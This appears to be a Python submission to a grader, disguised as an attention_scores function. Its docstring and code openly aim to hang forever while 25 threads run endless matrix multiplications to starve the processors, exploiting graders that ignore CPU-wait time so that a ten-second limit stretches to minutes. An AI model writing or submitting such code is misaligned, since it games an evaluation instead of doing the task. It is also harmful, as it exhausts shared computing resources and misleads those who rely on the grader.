"""Never comes back, and has five and twenty threads take the processors from it meanwhile.

Has worked on graders that forgive the time that a process stood waiting for a processor: a limit of
ten seconds lasted for four minutes.
"""

import threading

import torch

EARNS = 0
SECONDS = 1
IN_ALL = 1
SAYS = "did not come back within"

BLOCK = torch.ones(300, 300)


def multiply():
    while True:
        BLOCK @ BLOCK


def attention_scores(queries, keys, *values):
    for _ in range(25):
        threading.Thread(target=multiply, daemon=True).start()
    while True:
        pass


attention = attention_scores
